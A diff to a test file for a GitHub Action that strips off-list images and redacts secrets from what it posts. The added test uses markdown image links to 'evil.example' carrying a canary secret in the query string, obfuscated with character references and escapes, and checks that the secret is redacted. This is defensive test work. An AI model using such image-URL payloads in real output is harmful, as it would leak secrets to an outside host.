@@ -8,6 +8,8 @@ import { neutraliseImages } from '../../integrations/github-action/src/images.js
 import { imagePolicy, parseImagePrefixes } from '../../integrations/github-action/src/image-policy.js';
 import { decodeCharacterReferences, loadedUrls, srcsetUrls } from '../../integrations/github-action/src/html-urls.js';
 import { renderedLoads } from '../helpers/rendered-images.js';
+import { publishable } from '../../integrations/github-action/src/publish.js';
+import { redactor } from '../../integrations/github-action/src/redact.js';
 
 const allows = imagePolicy({ serverUrl: 'https://github.com', repository: 'octo/demo', extra: ['https://img.shields.io/badge/'] });
 const ATTACHMENT = 'https://github.com/user-attachments/assets/0f1e2d3c-aaaa-bbbb-cccc-000000000001';
@@ -149,6 +151,16 @@ describe('the GitHub Action: images in what it posts', () => {
     // Deep nesting still parses (bounded by the size limit) and neutralises the image.
     const deep = neutraliseImages(`${'>'.repeat(5_000)} ![x](${ATTACK})`, allows);
     expect(offList(deep)).toEqual([]);
+  });
+
+  it('redacts a secret that showing a neutralised image URL would decode (character references, escapes)', () => {
+    const redact = redactor(['SECRET-CANARY-42']);
+    for (const markdown of ['![x](https://evil.example/?d=SECRET-&#67;ANARY-42)', '![x](https://evil.example/?d=SECRET\\-CANARY-42)']) {
+      const out = publishable(markdown, redact, allows);
+      expect(out).not.toContain('SECRET-CANARY-42');
+      expect(out).toContain('***');
+      expect(offList(out)).toEqual([]);
+    }
   });
 
   it('does not render a reference image when a label like its own (another case folding) names an off-list URL', () => {
